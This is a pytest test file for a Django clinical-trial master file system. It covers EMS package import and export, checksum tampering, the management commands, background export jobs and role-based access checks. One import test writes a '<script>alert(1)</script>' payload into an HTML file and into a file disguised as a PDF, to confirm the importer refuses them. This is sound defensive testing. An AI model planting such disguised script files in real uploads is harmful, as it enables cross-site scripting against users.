    path = foreign_package(tmp_path / "nothing.zip", [
        ({**SITE_LEVEL, "OBJECTID": "X-1", "ARTIFACTNUMBER": "99.99.99"}, ICF, "x/X-1.docx"),
        ({**SITE_LEVEL, "OBJECTID": "X-2", "ARTIFACTDATE": None}, PROTOCOL, "x/X-2.docx"),
    ])
    before = (TmfDocument.objects.filter(trial=twin.trial).count(), AuditEntry.objects.count())
    with pytest.raises(ValidationError) as refused:
        exchange.import_package(path, trial=twin.trial, actor=None)
    messages = refused.value.messages
    assert "NCT07999999" in messages[0] and len(messages) == 3
    assert "X-1" in messages[1] and "X-2" in messages[2] and "ARTIFACTDATE" in messages[2]
    nothing_written(twin.trial, *before)


def test_objects_trialdocs_cannot_file_are_listed_with_the_reason(twin, tmp_path):
    """A file type TrialDocs does not file, content that does not match its extension, two files in one object
    (TrialDocs files one file per document): listed, the rest filed."""
    script = tmp_path / "page.html"
    script.write_bytes(b"<script>alert(1)</script>")
    disguised = tmp_path / "report.pdf"
    disguised.write_bytes(b"<html><script>alert(1)</script></html>")
    path = foreign_package(tmp_path / "types.zip", [
        ({**SITE_LEVEL, "OBJECTID": "OK-1"}, ICF, "ok/OK-1.docx"),
        ({**SITE_LEVEL, "OBJECTID": "HTML-1"}, script, "x/page.html"),
        ({**SITE_LEVEL, "OBJECTID": "PDF-1"}, disguised, "x/report.pdf"),
    ])
    result = exchange.import_package(path, trial=twin.trial, actor=None)
    assert [document.file_name for document in result.documents] == [ICF.name]
    assert len(result.refused) == 2
    assert "HTML-1" in result.refused[0] and "page.html" in result.refused[0]
    assert "PDF-1" in result.refused[1] and "report.pdf" in result.refused[1]


def test_an_object_with_two_files_is_listed_not_filed(twin, tmp_path):
    """The schema allows several FILEs per OBJECT; TrialDocs files one file per document: such an object is
    checked (both files' checksums) and listed, never half-filed."""
    path = foreign_package(tmp_path / "pair.zip", [({**SITE_LEVEL, "OBJECTID": "PAIR-1"}, ICF, "pair/one.docx"),
                                                   ({**SITE_LEVEL, "OBJECTID": "ONE-1"}, FRENCH_ICF, "one/one.docx")])
    with zipfile.ZipFile(path) as package:
        root = etree.fromstring(package.read("exchange.xml"))
        files = {name: package.read(name) for name in package.namelist() if name != "exchange.xml"}
    first = root.find("ems:OBJECT/ems:FILE", NS)
    second = copy.deepcopy(first)
    data = PROTOCOL.read_bytes()
    second.find("ems:INTEGRITY", NS).text = "sha256-" + base64.b64encode(hashlib.sha256(data).digest()).decode()
    second.find("ems:FILENAME", NS).text = PROTOCOL.name
    second.find("ems:CONTENTURL", NS).text = "pair/two.docx"
    first.addnext(second)
    pair = tmp_path / "pair-two-files.zip"
    with zipfile.ZipFile(pair, "w") as package:
        for name, content in {**files, "pair/two.docx": data, "exchange.xml": etree.tostring(root)}.items():
            package.writestr(name, content)
    assert_schema_valid(pair)
    assert exchange.verify_package(pair) == []
    tampered = rewrite(pair, tmp_path / "tampered.zip", change=lambda n, d: d + b"x" if n == "pair/two.docx" else d)
    assert any("pair/two.docx" in problem for problem in exchange.verify_package(tampered))
    result = exchange.import_package(pair, trial=twin.trial, actor=None)
    assert [document.file_name for document in result.documents] == [FRENCH_ICF.name]
    assert len(result.refused) == 1 and "PAIR-1" in result.refused[0] and "2" in result.refused[0]


def test_import_and_validate_commands_list_what_is_not_filed(twin, tmp_path):
    path = cro_package(tmp_path / "cro.zip")
    out = io.StringIO()
    call_command("validate_ems", str(path), stdout=out)
    text = out.getvalue()
    assert "valid EMS package" in text and "5 objects" in text and "2 objects TrialDocs would not file" in text
    assert "99.99.99" in text and not TmfDocument.objects.filter(trial=twin.trial).exists()
    out = io.StringIO()
    call_command("tmf_import", str(path), "--trial", "NCT07999999", stdout=out)
    assert "3 documents imported" in out.getvalue() and "2 objects not filed" in out.getvalue()
    assert "PCO-AKT-101-LVL-001" in out.getvalue()


def test_validate_command_refuses_an_invalid_package_clearly(tmf_world, tmp_path):
    with pytest.raises(CommandError, match="No package"):
        call_command("validate_ems", str(tmp_path / "absent.zip"))
    path, _summary = export(tmf_world.trial, tmp_path)
    out = io.StringIO()
    call_command("validate_ems", str(path), stdout=out)
    assert "valid EMS package" in out.getvalue() and "would not file" not in out.getvalue()
    bad = rewrite(path, tmp_path / "bad.zip", change=lambda n, d: d.replace(b"<OBJECTCOPY>No", b"<OBJECTCOPY>Non")
                  if n == "exchange.xml" else d)
    with pytest.raises(CommandError, match="not a valid EMS package") as refused:
        call_command("validate_ems", str(bad))
    assert "OBJECTCOPY" in str(refused.value) and "TmfReferenceModelExchange.xsd" in str(refused.value)


# --- Round trip -----------------------------------------------------------------------------------------------

def comparable_inventory(path) -> bytes:
    """exchange.xml with what names this trial, this transfer or this system's rows left out: the study and
    transfer ids, OBJECTID, the trial's sponsor and EU CT number, and the audit records (the trail of each copy
    is its own: the copy's starts with its import)."""
    root = inventory(path)
    for name in ("STUDYID", "STUDYSYSTEMID", "TRANSFERID"):
        del root.attrib[name]
    for obj in root.findall("ems:OBJECT", NS):
        obj.remove(obj.find("ems:OBJECTID", NS))
        for record in obj.findall("ems:FILE/ems:AUDITRECORD", NS):
            obj.find("ems:FILE", NS).remove(record)
        for meta in obj.findall("ems:METADATA", NS):
            if meta.get("NAME") in ("SPONSOR", "EUCTNUMBER"):
                obj.remove(meta)
    ET.indent(root)  # the removed elements' indentation
    return ET.tostring(root)


def test_export_import_export_gives_the_same_inventory_ids_aside(tmf_world, twin, tmp_path):
    first, _summary = export(tmf_world.trial, tmp_path, name="first.zip")
    exchange.import_package(first, trial=twin.trial, actor=None)
    second, _summary = export(twin.trial, tmp_path, name="second.zip")
    assert_schema_valid(first)
    assert_schema_valid(second)
    assert comparable_inventory(second) == comparable_inventory(first)
    with zipfile.ZipFile(first) as one, zipfile.ZipFile(second) as two:
        assert sorted(one.namelist()) == sorted(two.namelist())
        assert all(one.read(name) == two.read(name) for name in one.namelist() if name != "exchange.xml")
    assert inventory(first).get("STUDYID") == "NCT07063680" and inventory(second).get("STUDYID") == "NCT07999999"


# --- Commands ---------------------------------------------------------------------------------------------------

def test_index_command_writes_csv_and_xlsx_and_audits(tmf_world, tmp_path):
    out = io.StringIO()
    call_command("tmf_index", "--trial", "NCT07063680", "--format", "csv", "--out", str(tmp_path / "i.csv"), stdout=out)
    assert "NCT07063680" in out.getvalue()
    assert (tmp_path / "i.csv").read_bytes().startswith("\ufeff".encode())
    call_command("tmf_index", "--trial", "nct07063680", "--format", "xlsx", "--out", str(tmp_path / "i.xlsx"),
                 stdout=io.StringIO())
    assert (tmp_path / "i.xlsx").read_bytes()[:2] == b"PK"
    entries = AuditEntry.objects.filter(action="tmf.index_exported")
    assert entries.count() == 2 and {e.actor_label for e in entries} == {"system"}


@pytest.mark.parametrize(("arguments", "message"), [
    (["--trial", "NCT00000000", "--format", "csv"], "No trial"),
    (["--trial", "NCT07063680", "--format", "ods"], "Unknown format"),
])
def test_index_command_refuses_clearly(tmf_world, tmp_path, arguments, message):
    with pytest.raises(CommandError, match=message):
        call_command("tmf_index", *arguments, "--out", str(tmp_path / "i.csv"))


def test_index_command_on_an_unwritable_path_exits_non_zero_without_traceback(tmf_world, tmp_path, capsys, monkeypatch):
    from django.db import connections

    # run_from_argv closes every connection when it ends: on PostgreSQL that would end the module's shared world
    # (built once, in a transaction) under the tests that follow.
    monkeypatch.setattr(connections, "close_all", lambda: None)
    command = tmf_index.Command()
    with pytest.raises(SystemExit) as exited:
        command.run_from_argv(["manage.py", "tmf_index", "--trial", "NCT07063680", "--out",
                               str(tmp_path / "missing" / "i.csv")])
    assert exited.value.code == 1
    err = capsys.readouterr().err
    assert "Cannot write" in err and "Traceback" not in err


def test_export_and_import_commands_round_trip(tmf_world, twin, tmp_path):
    out = io.StringIO()
    call_command("tmf_export", "--trial", "NCT07063680", "--out", str(tmp_path / "p.zip"), stdout=out)
    digest = hashlib.sha256((tmp_path / "p.zip").read_bytes()).hexdigest()
    count = TmfDocument.objects.filter(trial=tmf_world.trial).count()
    assert f"{count} documents" in out.getvalue() and digest in out.getvalue()
    assert AuditEntry.objects.get(action="tmf.package_exported").actor_label == "system"
    out = io.StringIO()
    call_command("tmf_import", str(tmp_path / "p.zip"), "--trial", "NCT07999999", stdout=out)
    assert f"{count} documents imported" in out.getvalue()
    assert TmfDocument.objects.filter(trial=twin.trial).count() == count


def test_export_and_import_commands_refuse_clearly(tmf_world, twin, tmp_path):
    with pytest.raises(CommandError, match="No trial"):
        call_command("tmf_export", "--trial", "NCT00000001", "--out", str(tmp_path / "p.zip"))
    with pytest.raises(CommandError, match="Cannot write"):
        call_command("tmf_export", "--trial", "NCT07063680", "--out", str(tmp_path / "nowhere" / "p.zip"))
    with pytest.raises(CommandError, match="No package"):
        call_command("tmf_import", str(tmp_path / "absent.zip"), "--trial", "NCT07999999")
    call_command("tmf_export", "--trial", "NCT07063680", "--out", str(tmp_path / "p.zip"), stdout=io.StringIO())
    rewrite(tmp_path / "p.zip", tmp_path / "bad.zip", drop=["exchange.xml"])
    with pytest.raises(CommandError, match="nothing imported"):
        call_command("tmf_import", str(tmp_path / "bad.zip"), "--trial", "NCT07999999")
    with pytest.raises(CommandError, match="DIJ, LIL"):
        call_command("tmf_import", str(tmp_path / "p.zip"), "--trial", "NCT01234567")
    assert not TmfDocument.objects.filter(trial=twin.trial).exists()


# --- Web: background export with progress ---------------------------------------------------------------------

def test_sponsor_starts_an_export_that_runs_and_downloads(tmf_world, as_user):
    client = as_user(tmf_world.sponsor)
    url = reverse("tmf_exports", args=["NCT07063680"])
    page = client.get(url)
    assert page.status_code == 200
    assert "Exporter tout le TMF" in page.content.decode()
    response = client.post(url)
    assert response.status_code == 302 and response["Location"] == url
    job = TmfExportJob.objects.get()
    count = TmfDocument.objects.filter(trial=tmf_world.trial).count()
    assert (job.state, job.done, job.total, job.requested_by) == ("done", count, count, tmf_world.sponsor)
    assert job.finished_at is not None and len(job.sha256) == 64
    status = client.get(reverse("tmf_export_status", args=["NCT07063680", job.pk])).json()
    assert status == {"state": "done", "done": count, "total": count, "percent": 100, "label": "Terminé"}
    page = client.get(url).content.decode()
    assert "<progress" in page and reverse("tmf_export_download", args=["NCT07063680", job.pk]) in page
    download = client.get(reverse("tmf_export_download", args=["NCT07063680", job.pk]))
    assert download.status_code == 200 and download["Content-Type"] == "application/zip"
    data = b"".join(download.streaming_content)
    assert hashlib.sha256(data).hexdigest() == job.sha256
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert package.testzip() is None and "exchange.xml" in package.namelist()
    actions = set(AuditEntry.objects.values_list("action", flat=True))
    assert {"tmf.export_requested", "tmf.package_exported", "tmf.export_done", "tmf.package_downloaded"} <= actions


DUMMY_TASKS = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}


def test_progress_is_polled_while_the_job_waits_for_the_worker(tmf_world, as_user, settings):
    from regulatory import tasks

    settings.TASKS = DUMMY_TASKS  # queued, never run: the worker's part is played below
    client = as_user(tmf_world.sponsor)
    client.post(reverse("tmf_exports", args=["NCT07063680"]))
    job = TmfExportJob.objects.get()
    status_url = reverse("tmf_export_status", args=["NCT07063680", job.pk])
    assert client.get(status_url).json() == {"state": "queued", "done": 0, "total": job.total, "percent": 0,
                                             "label": "En attente"}
    page = client.get(reverse("tmf_exports", args=["NCT07063680"])).content.decode()
    assert f'data-status-url="{status_url}"' in page and "regulatory/tmf-exports.js" in page
    script = (settings.BASE_DIR / "regulatory" / "static" / "regulatory" / "tmf-exports.js").read_text()
    assert "setInterval(poll, 1000)" in script  # the page's own script (the CSP refuses inline scripts)
    download = client.get(reverse("tmf_export_download", args=["NCT07063680", job.pk]))
    assert download.status_code == 404
    assert tasks.export_tmf.call(job.pk) == "done"
    assert client.get(status_url).json()["percent"] == 100


def test_the_database_worker_runs_a_queued_export(tmf_world, as_user, settings, monkeypatch):
    """The demo's and production's path: the job waits in the database until `manage.py db_worker` runs it."""
    from django_tasks_db.models import DBTaskResult

    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    # The worker closes stale connections between tasks; in a test that would end the test's own transaction.
    monkeypatch.setattr("django_tasks_db.management.commands.db_worker.close_old_connections", lambda: None)
    as_user(tmf_world.sponsor).post(reverse("tmf_exports", args=["NCT07063680"]))
    job = TmfExportJob.objects.get()
    assert job.state == "queued" and DBTaskResult.objects.get().status == "READY"
    call_command("db_worker", "--batch", "--no-reload", "--no-startup-delay", verbosity=0)
    job.refresh_from_db()
    assert job.state == "done" and job.done == job.total > 0 and job.file
    assert DBTaskResult.objects.get().status == "SUCCESSFUL"


def test_a_failed_export_is_marked_failed(tmf_world, settings, monkeypatch):
    from regulatory import tasks

    settings.TASKS = DUMMY_TASKS
    job = tasks.start_export(actor=tmf_world.sponsor, trial=tmf_world.trial)
    monkeypatch.setattr(exchange, "export_package", lambda *a, **k: (_ for _ in ()).throw(OSError("disque plein")))
    with pytest.raises(OSError):
        tasks.export_tmf.call(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and "disque plein" in job.error and job.finished_at
    assert AuditEntry.objects.filter(action="tmf.export_failed").exists()


@pytest.mark.parametrize("persona", ["coordinator_a", "other_sponsor", "nobody"])
def test_people_outside_the_trials_tmf_get_404(tmf_world, as_user, persona):
    job = TmfExportJob.objects.create(trial=tmf_world.trial, requested_by=tmf_world.sponsor)
    client = as_user(getattr(tmf_world, persona))
    assert client.get(reverse("tmf_exports", args=["NCT07063680"])).status_code == 404
    assert client.post(reverse("tmf_exports", args=["NCT07063680"])).status_code == 404
    assert client.get(reverse("tmf_export_status", args=["NCT07063680", job.pk])).status_code == 404
    assert client.get(reverse("tmf_export_download", args=["NCT07063680", job.pk])).status_code == 404
    assert not TmfExportJob.objects.exclude(pk=job.pk).exists()


def test_inspector_reads_and_downloads_but_cannot_start(tmf_world, as_user):
    client = as_user(tmf_world.sponsor)
    client.post(reverse("tmf_exports", args=["NCT07063680"]))
    job = TmfExportJob.objects.get()
    client = as_user(tmf_world.inspector)
    assert client.post(reverse("tmf_exports", args=["NCT07063680"])).status_code == 403
    page = client.get(reverse("tmf_exports", args=["NCT07063680"]))
    assert page.status_code == 200 and "Exporter tout le TMF" not in page.content.decode()
    assert client.get(reverse("tmf_export_download", args=["NCT07063680", job.pk])).status_code == 200
    assert TmfExportJob.objects.count() == 1


def test_qa_cannot_start_an_export(tmf_world, as_user):
    assert as_user(tmf_world.qa).post(reverse("tmf_exports", args=["NCT07063680"])).status_code == 403
    assert not TmfExportJob.objects.exists()


def test_an_inspector_of_some_sites_only_cannot_download_a_full_export(tmf_world, as_user):
    as_user(tmf_world.sponsor).post(reverse("tmf_exports", args=["NCT07063680"]))
    job = TmfExportJob.objects.get()
    partial = make_user("inspector-dij")
    make_grant(inspector=partial, trial=tmf_world.trial, sites=[tmf_world.site_a], granted_by=tmf_world.sponsor)
    client = as_user(partial)
    page = client.get(reverse("tmf_exports", args=["NCT07063680"]))
    assert page.status_code == 200 and "certains centres" in page.content.decode()
    assert client.get(reverse("tmf_export_download", args=["NCT07063680", job.pk])).status_code == 403


def test_administrator_may_start_an_export(tmf_world, as_user):
    response = as_user(tmf_world.admin).post(reverse("tmf_exports", args=["NCT07063680"]))
    assert response.status_code == 302
    assert TmfExportJob.objects.get().state == "done"


def test_anonymous_is_sent_to_login(tmf_world, client):
    response = client.get(reverse("tmf_exports", args=["NCT07063680"]))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_other_trials_sponsor_cannot_reach_a_job_through_their_own_trial(tmf_world, as_user):
    job = TmfExportJob.objects.create(trial=tmf_world.trial, requested_by=tmf_world.sponsor)
    client = as_user(tmf_world.other_sponsor)
    assert client.get(reverse("tmf_export_status", args=["NCT01234567", job.pk])).status_code == 404
